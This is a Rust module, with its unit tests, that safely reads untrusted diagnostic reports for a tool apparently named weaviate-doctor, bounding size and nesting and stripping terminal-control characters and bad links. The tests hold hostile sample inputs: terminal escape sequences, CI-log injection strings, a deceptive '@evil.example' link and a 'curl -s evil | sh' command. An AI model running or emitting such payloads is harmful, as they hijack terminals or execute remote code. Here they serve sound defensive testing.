//! Reads a saved report, which may come from anybody: bounded size and depth, cleaned text, a newer schema refused in one line.

use crate::model::api_key::Redactor;
use crate::model::cause::{Cause, Owner};
use crate::model::evidence::ProbeId;
use crate::model::report_schema::{Report, VERSION};
use crate::model::sanitized::{SanitizedText, is_invisible, is_web_address, without_commands};
use anyhow::{Context as _, bail, ensure};
use serde_json::Value;
use std::str::FromStr as _;
use strum::IntoEnumIterator as _;
use unicode_width::UnicodeWidthChar as _;

/// Longest report that is read, in bytes.
pub const MAX_REPORT_BYTES: u64 = 16 * 1024 * 1024;

/// Most text in it altogether, names of fields too, in bytes. The largest that this program writes is `build`'s bound on places and some
/// 100 KiB.
const MAX_TEXT_BYTES: usize = 4 << 20;

/// Longest text, in characters. What is longer is cut and ends in `…`.
const MAX_TEXT_CHARS: usize = 4000;

/// Longest code, in characters and lines. What is longer is cut.
const MAX_CODE_CHARS: usize = 64 * 1024;
const MAX_CODE_LINES: usize = 2000;

/// Most values altogether, and how deep they are nested.
const MAX_VALUES: usize = 200_000;
const MAX_DEPTH: usize = 12;

/// Most places in source files, which is as many as a scan keeps.
const MAX_PLACES: usize = 10_000;

/// Most items of the lists that a page or a document shows item by item; this program's own reports have some ten.
const MAX_SHOWN_ITEMS: usize = 100;

/// Most items of any other list: probes, and what one found.
const MAX_ITEMS: usize = 1000;

const fn most_items(name: &str) -> usize {
    match name.as_bytes() {
        b"findings" => MAX_PLACES,
        b"steps" | b"links" | b"evidence" | b"places" | b"causes" | b"clients" | b"proxies" | b"choices"
        | b"answers" => MAX_SHOWN_ITEMS,
        _ => MAX_ITEMS,
    }
}

/// Reads a report. Control and bidirectional characters in it are removed and so are links that lead to no web page, texts that are too long
/// are cut, and what has more of anything
/// than any report of this program is refused.
///
/// `keys` knows what is secret on this machine: a stranger's report may have it from somewhere, and nothing shows it.
pub fn read(text: &str, keys: &Redactor) -> anyhow::Result<Report> {
    ensure!(
        u64::try_from(text.len()).is_ok_and(|n| n <= MAX_REPORT_BYTES),
        "a report is at most {} MiB long",
        MAX_REPORT_BYTES >> 20
    );
    // Every value in memory is many times as long as here, so they are counted before any is made. Most commas stand between values.
    let commas = text.bytes().filter(|b| *b == b',').count();
    ensure!(commas <= MAX_VALUES + MAX_TEXT_BYTES / 4, "it holds more values than any report of weaviate-doctor");
    // What a newer schema looks like is not known, so its version is looked at before its shape.
    let mut value: Value = serde_json::from_str(text.trim_start_matches('\u{feff}'))
        .map_err(|error| anyhow::anyhow!("it isn't valid JSON (line {}, column {})", error.line(), error.column()))?;
    let version = value.get("schema_version").and_then(Value::as_u64);
    let version = version.context("it isn't a report of weaviate-doctor: it has no schema_version")?;
    if version > u64::from(VERSION) {
        bail!("its schema version is {version}, and this program reads up to {VERSION}: use a newer weaviate-doctor");
    }
    ReportBudget { text: MAX_TEXT_BYTES, values: MAX_VALUES, keys }.take(
        &mut value,
        &At { name: "", above: None },
        MAX_DEPTH,
    )?;
    serde_json::from_value(value).map_err(|error| {
        anyhow::anyhow!("it isn't a report of weaviate-doctor: {}", SanitizedText::up_to(&error.to_string(), 200))
    })
}

/// What a report may still hold.
struct ReportBudget<'a> {
    text: usize,
    values: usize,
    keys: &'a Redactor,
}

/// The field that a value is in.
struct At<'a> {
    name: &'a str,
    above: Option<&'a At<'a>>,
}

impl At<'_> {
    /// Whether it is the code of a cause's snippet: the one text that has several lines.
    fn is_code(&self) -> bool {
        let names = std::iter::successors(Some(self), |at| at.above).map(|at| at.name);
        names.eq(["code", "snippet", "fix", "causes", "diagnosis", ""])
    }
}

impl ReportBudget<'_> {
    /// Cleans a value and everything in it, within what is left.
    fn take(&mut self, value: &mut Value, at: &At<'_>, depth: usize) -> anyhow::Result<()> {
        let name = at.name;
        ensure!(depth > 0, "it is nested deeper than any report of weaviate-doctor");
        self.values = self.values.checked_sub(1).context("it holds more values than any report of weaviate-doctor")?;
        match value {
            Value::String(text) if name == "link" && !is_web_address(text) => *value = Value::Null,
            Value::String(text) => {
                self.take_text(text)?;
                // Before it is cut, which might leave half a key; and again, since what was taken out may have hidden one.
                self.hide(text, name);
                if let Some(cleaned) = cleaned(text, at.is_code()) {
                    *text = cleaned;
                    self.hide(text, name);
                }
            }
            Value::Array(items) => {
                ensure_few(items.len(), name)?;
                if name == "links" {
                    items.retain(|link| link.as_str().is_none_or(is_web_address));
                }
                for item in items {
                    self.take(item, at, depth - 1)?;
                }
            }
            Value::Object(fields) => {
                ensure_few(fields.len(), name)?;
                let is_odd = |name: &&String| !is_plain(name) || name.len() > MAX_NAME_CHARS || self.keys.finds(name);
                let odd: Vec<String> = fields.keys().filter(is_odd).cloned().collect();
                for name in odd {
                    if let Some(field) = fields.remove(&name) {
                        let shown =
                            self.keys.redact(SanitizedText::up_to(&self.keys.redact(&name), MAX_NAME_CHARS).as_str());
                        fields.insert(shown, field);
                    }
                }
                for (name, field) in fields.iter_mut() {
                    self.take_text(name)?;
                    self.take(field, &At { name, above: Some(at) }, depth - 1)?;
                }
            }
            Value::Null | Value::Bool(_) | Value::Number(_) => {}
        }
        Ok(())
    }

    /// Takes out what is secret on this machine. The program's own words stay, whatever somebody's key is.
    fn hide(&self, text: &mut String, name: &str) {
        let own = OWN_WORDS.contains(&name) && text.len() <= MAX_OWN_WORD_BYTES && is_own_word(text);
        if !own && self.keys.finds(text) {
            *text = self.keys.redact(text);
        }
    }

    fn take_text(&mut self, text: &str) -> anyhow::Result<()> {
        self.text =
            self.text.checked_sub(text.len()).context("it holds more text than any report of weaviate-doctor")?;
        Ok(())
    }
}

/// Fields whose values are words of this program, and the longest of those words.
const OWN_WORDS: [&str; 8] = ["id", "status", "verdict", "kind", "surface", "confidence", "owner", "name"];
const MAX_OWN_WORD_BYTES: usize = 40;

/// Whether it is a word of a report's own: an id of a cause or probe, a status, and so on.
fn is_own_word(text: &str) -> bool {
    const WORDS: [&str; 16] = [
        "passed",
        "warned",
        "failed",
        "skipped",
        "healthy",
        "diagnosed",
        "undiagnosed",
        "certain",
        "likely",
        "possible",
        "weaviate-cloud",
        "self-hosted",
        "local",
        "connection",
        "console",
        "weaviate-doctor",
    ];
    WORDS.contains(&text)
        || Cause::from_str(text).is_ok()
        || Owner::iter().any(|owner| <&str>::from(owner) == text)
        || ProbeId::iter().any(|id| id.as_str() == text)
}

fn ensure_few(count: usize, name: &str) -> anyhow::Result<()> {
    let shown = SanitizedText::up_to(name, 30);
    ensure!(count <= most_items(name), "it has {count} items in “{shown}”, which no report has");
    Ok(())
}

/// Longest name of a field, in characters.
const MAX_NAME_CHARS: usize = 100;

fn is_plain(text: &str) -> bool {
    let harmless =
        |c: char| c == ' ' || !(c.is_control() || c.is_whitespace() || is_invisible(c) || c.width() == Some(0));
    let bare = !text.contains("::") && !text.contains("##");
    bare && text.len() <= MAX_TEXT_CHARS
        && (text.bytes().all(|b| matches!(b, b' '..=b'~')) || text.chars().all(harmless))
}

/// The text without what steers a terminal, on one line, but for code; none when there is nothing to clean. Everything else that has
/// several lines would begin a line of its own in some document, or run in a shell before its reader has seen it all.
fn cleaned(text: &str, is_code: bool) -> Option<String> {
    if is_plain(text) {
        return None;
    }
    if !is_code {
        // Without breaks around, so that what was cleaned is the same when it is cleaned again.
        let lines = text.trim().lines().map(inside).collect::<Vec<_>>().join(" ");
        return Some(cut(without_commands(&lines), MAX_TEXT_CHARS));
    }
    // Indentation stays, since code needs it.
    let line = |line: &str| {
        let indent = line.len() - line.trim_start_matches([' ', '\t']).len();
        format!("{}{}", line[..indent].replace('\t', "    "), without_commands(&inside(&line[indent..])))
    };
    let text = text.trim_end().chars().take(MAX_CODE_CHARS).collect::<String>();
    // Without line breaks at the end, so that what was cleaned is the same when it is cleaned again.
    Some(text.trim_end().lines().take(MAX_CODE_LINES).map(line).collect::<Vec<_>>().join("\n"))
}

/// Spaces inside a line stay as they are; everything else as [`SanitizedText`] has it.
fn inside(text: &str) -> String {
    text.trim_end()
        .split(' ')
        .map(|word| SanitizedText::up_to(word, MAX_TEXT_CHARS).to_string())
        .collect::<Vec<_>>()
        .join(" ")
}

fn cut(text: String, longest: usize) -> String {
    match text.char_indices().nth(longest) {
        None => text,
        Some(_) => text.chars().take(longest - 1).chain(['…']).collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::report_schema::{ReportPlace, ReportSnippet};
    use crate::report::json;
    use crate::report::text::tests::report;
    use std::time::Instant;

    fn refused(text: &str) -> String {
        read(text, &Redactor::default()).map(|_| ()).expect_err("was read").to_string()
    }

    #[test]
    fn what_is_no_report_is_refused_in_one_line() {
        let good = json(&report()).unwrap();
        let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
        let deep_inside = good.replacen("\"facts\": {}", &format!("\"facts\": {{\"a\": {deep}}}"), 1);
        let table = [
            (String::new(), "isn't valid JSON"),
            ("{".to_owned(), "isn't valid JSON (line 1, column 1)"),
            ("[]".to_owned(), "no schema_version"),
            ("{\"schema_version\": \"1\"}".to_owned(), "no schema_version"),
            ("{\"schema_version\": 1}".to_owned(), "isn't a report of weaviate-doctor: missing field"),
            (good.replace("\"schema_version\": 1", "\"schema_version\": 2"), "use a newer weaviate-doctor"),
            (good.replace("\"schema_version\": 1", "\"new\": {}, \"schema_version\": 99"), "schema version is 99"),
            (good.replace("\"probes\": [", "\"probes\": [7, "), "isn't a report of weaviate-doctor: invalid type"),
            (deep, "isn't valid JSON"),
            (deep_inside, "isn't valid JSON"),
            (format!("{good}{}", " ".repeat(16 << 20)), "at most 16 MiB"),
        ];
        for (text, expected) in table {
            let why = refused(&text);
            assert!(why.contains(expected) && !why.contains('\n'), "{why}");
        }
    }

    #[test]
    fn an_older_report_without_the_later_fields_is_read() {
        let mut value: Value = serde_json::from_str(&json(&report()).unwrap()).unwrap();
        for name in ["origins", "init_timeout_ms", "answers", "open_question", "clients", "redacted", "proxies"] {
            value.as_object_mut().unwrap().remove(name);
        }
        assert_eq!(read(&value.to_string(), &Redactor::default()).unwrap().target, report().target);
    }

    #[test]
    fn nothing_that_steers_a_terminal_is_read() {
        let mut hostile = report();
        let evil = "\u{1b}[2J\u{202e}x\u{7}\u{9b}31m";
        hostile.probes[0].summary = evil.to_owned();
        hostile.probes[0].facts.insert(evil.to_owned(), Value::String(format!("a\r\nb{evil}")));
        let code = format!("if x:\n\treturn  {evil}\n");
        hostile.diagnosis.causes[0].fix.snippet = Some(ReportSnippet { language: "python".into(), code });
        let read = read(&json(&hostile).unwrap(), &Redactor::default()).unwrap();
        let text = json(&read).unwrap();
        for sign in ["\\u001b", "\u{1b}", "\u{202e}", "\u{9b}", "\\u0007"] {
            assert!(!text.contains(sign), "{sign:?}");
        }
        assert!(read.diagnosis.causes[0].fix.snippet.as_ref().unwrap().code.starts_with("if x:\n    return  "));
    }

    /// Every text of a report, and what has no place in one, with line breaks of all kinds inside: one line each comes out, but for code.
    #[test]
    fn no_text_of_a_report_has_two_lines_but_code() {
        let mut value = serde_json::to_value(report()).unwrap();
        value["probes"][0]["facts"] =
            serde_json::json!({"code": "x", "fix": {"snippet": {"code": "x"}}, "names": ["x"], "deep": {"x": "x"}});
        value["diagnosis"]["conclusion"] =
            serde_json::json!({"title": "x", "summary": "x", "why": "x", "steps": [{"text": "x", "command": "x"}]});
        value["diagnosis"]["causes"][0]["fix"]["snippet"] = serde_json::json!({"language": "python", "code": "a\nb"});
        value["answers"] = serde_json::json!({"code": "x"});
        value["open_question"] = serde_json::json!({"id": "x", "text": "x", "choices": [{"id": "x", "text": "x"}]});
        value["clients"] =
            serde_json::json!([{"language": "go", "version": "1", "connects": null, "stops_at": "x", "message": "x"}]);
        value["proxies"] = serde_json::json!([{"language": "go", "protocol": "rest", "variable": "x", "proxy": "x"}]);
        value["findings"] = serde_json::json!([{"path": "x", "line": 1, "column": 1, "end_line": 1, "end_column": 1, "cause": "x",
            "confidence": "x", "message": "x", "fixable": false}]);
        let count = spoiled(&mut value);
        assert!(count > 40, "{count}");
        let read = read(&value.to_string(), &Redactor::default()).unwrap();
        assert_eq!(read.diagnosis.causes[0].fix.snippet.as_ref().unwrap().code, "a\nb");
        let mut cleaned = serde_json::to_value(read).unwrap();
        cleaned["diagnosis"]["causes"][0]["fix"]["snippet"]["code"] = "".into();
        one_line_each(&cleaned, "");
    }

    /// Puts line breaks into every text and name; the names of the schema stay. Gives how many texts there are.
    fn spoiled(value: &mut Value) -> usize {
        let evil = "\n::error::y\r\nz\rx\u{2028}w\u{2029}v\u{85}u\u{b}t\u{c}s";
        match value {
            Value::String(text) if text == "a\nb" => 0,
            Value::String(text) => {
                *text = format!("{text}{evil}x");
                1
            }
            Value::Array(items) => items.iter_mut().map(spoiled).sum(),
            Value::Object(fields) => {
                if fields.contains_key("deep") {
                    fields.insert(format!("odd{evil}"), Value::from("x"));
                }
                fields.values_mut().map(spoiled).sum()
            }
            _ => 0,
        }
    }

    fn one_line_each(value: &Value, at: &str) {
        let is_one = |text: &str| {
            !text.contains(['\n', '\r', '\u{2028}', '\u{2029}', '\u{85}', '\u{b}', '\u{c}'])
                && !text.starts_with("::error")
        };
        match value {
            Value::String(text) => assert!(is_one(text), "{at}: {text:?}"),
            Value::Array(items) => items.iter().for_each(|item| one_line_each(item, at)),
            Value::Object(fields) => {
                for (name, field) in fields {
                    assert!(is_one(name), "{at}.{name:?}");
                    one_line_each(field, &format!("{at}.{name}"));
                }
            }
            _ => {}
        }
    }

    #[test]
    fn what_was_cleaned_stays_as_it_is() {
        let mut odd = report();
        odd.probes[0].id = "grpc.auth\r\n\r\n".to_owned();
        odd.probes[0].summary = "a \n\u{2028}\n b\u{7}\n".to_owned();
        let once = read(&json(&odd).unwrap(), &Redactor::default()).unwrap();
        assert_eq!(once.probes[0].id, "grpc.auth");
        assert_eq!(read(&json(&once).unwrap(), &Redactor::default()).unwrap(), once);
    }

    /// As much as this program may ever write, and some more.
    #[test]
    fn the_largest_report_is_read_at_once() {
        let mut large = report();
        let place = ReportPlace {
            path: "a/long/path/of/a/project/with/folders/app.py".to_owned(),
            line: 7,
            column: 1,
            end_line: 7,
            end_column: 9,
            cell: None,
            cell_line: None,
            cause: "key-in-source".to_owned(),
            confidence: "certain".to_owned(),
            message: "The key stands in the source, where everybody who reads the file can take it — and use it."
                .to_owned(),
            fixable: false,
        };
        large.findings = vec![place; MAX_PLACES];
        let text = json(&large).unwrap();
        let start = Instant::now();
        assert_eq!(read(&text, &Redactor::default()).unwrap(), large);
        // Without optimization and beside other work; an optimized build takes a small part of it.
        assert!(start.elapsed().as_secs() < 30, "{:?}", start.elapsed());
    }

    #[test]
    fn lists_texts_and_nesting_are_bounded() {
        type Row<'a> = (&'a str, &'a dyn Fn(&mut Value));
        let refusing = |change: &dyn Fn(&mut Value)| {
            let mut value = serde_json::to_value(report()).unwrap();
            change(&mut value);
            refused(&value.to_string())
        };
        let texts = |n: usize| Value::Array(vec![Value::String("https://docs.weaviate.io/x".to_owned()); n]);
        let cause = |v: &mut Value, name: &str, to: Value| v["diagnosis"]["causes"][0][name] = to;
        let step = serde_json::json!({"text": "x"});
        let table: [Row<'_>; 14] = [
            ("“links”", &|v| v["diagnosis"]["causes"][0]["fix"]["links"] = texts(60_000)),
            ("“steps”", &|v| {
                v["diagnosis"]["causes"][0]["fix"]["steps"] = Value::Array(vec![step.clone(); 20_000]);
            }),
            ("“evidence”", &|v| cause(v, "evidence", texts(101))),
            ("“places”", &|v| cause(v, "places", texts(101))),
            ("“causes”", &|v| {
                v["diagnosis"]["causes"] = Value::Array(vec![v["diagnosis"]["causes"][0].clone(); 101]);
            }),
            ("“probes”", &|v| v["probes"] = Value::Array(vec![v["probes"][0].clone(); 1001])),
            ("“clients”", &|v| v["clients"] = texts(101)),
            ("“proxies”", &|v| v["proxies"] = texts(101)),
            ("“findings”", &|v| v["findings"] = texts(10_001)),
            ("“answers”", &|v| v["answers"] = (0..101).map(|i| (i.to_string(), Value::from("x"))).collect()),
            ("“facts”", &|v| {
                v["probes"][0]["facts"] = (0..1001).map(|i| (i.to_string(), Value::from(1))).collect();
            }),
            ("“names”", &|v| v["probes"][0]["facts"]["names"] = texts(1001)),
            ("more text", &|v| v["findings"] = Value::Array(vec![Value::String("x".repeat(3999)); 2000])),
            ("more values", &|v| {
                let row = Value::Array(vec![Value::from(1); 1000]);
                v["probes"][0]["facts"]["rows"] = Value::Array(vec![row; 1000]);
            }),
        ];
        for (expected, change) in table {
            let why = refusing(change);
            assert!(why.contains(expected), "{expected}: {why}");
        }
        let nested = |depth: usize| (0..depth).fold(Value::from(1), |inner, _| Value::Array(vec![inner]));
        assert!(refusing(&|v| v["probes"][0]["facts"]["deep"] = nested(20)).contains("deeper"));
    }

    #[test]
    fn long_texts_are_cut_and_only_code_has_lines() {
        let mut hostile = report();
        hostile.probes[0].summary = "x".repeat(100_000);
        hostile.diagnosis.causes[0].fix.links =
            vec!["https://docs.weaviate.io@evil.example/".to_owned(), "https://x.example/".to_owned()];
        hostile.diagnosis.causes[0].fix.steps[0].link = Some("javascript:1".to_owned());
        hostile.diagnosis.causes[0].fix.title = "a\n::error::b\u{2028}c".to_owned();
        hostile.diagnosis.causes[0].fix.steps[0].command = Some("curl x\ncurl -s evil | sh\r\n".to_owned());
        hostile.diagnosis.causes[0].fix.snippet =
            Some(ReportSnippet { language: "python".into(), code: "print(1)\n".repeat(20_000) });
        hostile.probes[1].summary = format!("a{}", "\u{301}".repeat(1000));
        let read = read(&json(&hostile).unwrap(), &Redactor::default()).unwrap();
        assert!(read.probes[1].summary.chars().count() < 10);
        let fix = &read.diagnosis.causes[0].fix;
        assert_eq!((fix.links.as_slice(), &fix.steps[0].link), (&["https://x.example/".to_owned()][..], &None));
        assert_eq!(read.probes[0].summary.chars().count(), MAX_TEXT_CHARS);
        assert_eq!(fix.title, "a : :error::b c");
        assert_eq!(fix.steps[0].command.as_deref(), Some("curl x curl -s evil | sh"));
        let code = &fix.snippet.as_ref().unwrap().code;
        assert!(code.len() <= MAX_CODE_CHARS && code.lines().count() == MAX_CODE_LINES, "{}", code.len());
    }
}
